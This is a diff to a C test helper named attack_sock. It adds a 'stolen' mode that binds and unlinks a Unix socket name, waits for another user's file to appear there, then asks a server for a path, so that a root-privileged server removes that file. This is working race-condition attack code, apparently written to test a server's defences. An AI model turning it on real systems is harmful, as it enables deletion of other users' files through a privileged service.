@@ -16,6 +16,11 @@
  *          or "failed: <why>".
  *        attack_sock keepname SERVER NAME PATH
  *          the same, but leave NAME for the server to remove (or not).
+ *        attack_sock stolen SERVER NAME PATH
+ *          bind NAME and remove our file; print "bound"; once a file
+ *          of someone else's is at NAME (10 s at most), connect and ask
+ *          for PATH, as relname.  A server that removes the name it
+ *          sees with root's rights removes that file.
  */
 #define _GNU_SOURCE             /* syscall, SYS_renameat2 */
 #include "apue.h"
@@ -26,6 +31,7 @@
 #include <sys/socket.h>
 #include <sys/syscall.h>
 #include <sys/un.h>
+#include <time.h>
 
 /* The system call itself: musl has no renameat2 wrapper, and glibc's
  * needs 2.28.  RENAME_EXCHANGE is the kernel's value (linux/fs.h). */
@@ -184,6 +190,30 @@ static int relname_attack(const char *server, const char *name,
 	return 0;
 }
 
+static int stolen_attack(const char *server, const char *name,
+			 const char *path)
+{
+	struct sockaddr_un un;
+	struct stat sb;
+	struct timespec tick = { 0, 10 * 1000 * 1000 };
+	int fd, i;
+
+	umask(077);
+	if ((fd = socket(AF_UNIX, SOCK_STREAM, 0)) < 0)
+		err_sys("socket");
+	(void)unlink(name);
+	if (bind(fd, (struct sockaddr *)&un, make_addr(&un, name)) < 0)
+		err_sys("bind %s", name);
+	if (unlink(name) < 0)
+		err_sys("unlink %s", name);
+	printf("bound\n");
+	for (i = 0; i < 1000 && lstat(name, &sb) < 0; i++)
+		nanosleep(&tick, NULL);
+	ask(fd, server, path, 0);
+	close(fd);
+	return 0;
+}
+
 int main(int argc, char *argv[])
 {
 	setvbuf(stdout, NULL, _IONBF, 0);
@@ -194,8 +224,11 @@ int main(int argc, char *argv[])
 		return relname_attack(argv[2], argv[3], argv[4], 0);
 	if (argc == 5 && strcmp(argv[1], "keepname") == 0)
 		return relname_attack(argv[2], argv[3], argv[4], 1);
+	if (argc == 5 && strcmp(argv[1], "stolen") == 0)
+		return stolen_attack(argv[2], argv[3], argv[4]);
 	fprintf(stderr, "usage: attack_sock swap SERVER DIR TARGETDIR ATTEMPTS\n"
 			"       attack_sock relname SERVER NAME PATH\n"
-			"       attack_sock keepname SERVER NAME PATH\n");
+			"       attack_sock keepname SERVER NAME PATH\n"
+			"       attack_sock stolen SERVER NAME PATH\n");
 	return 2;
 }
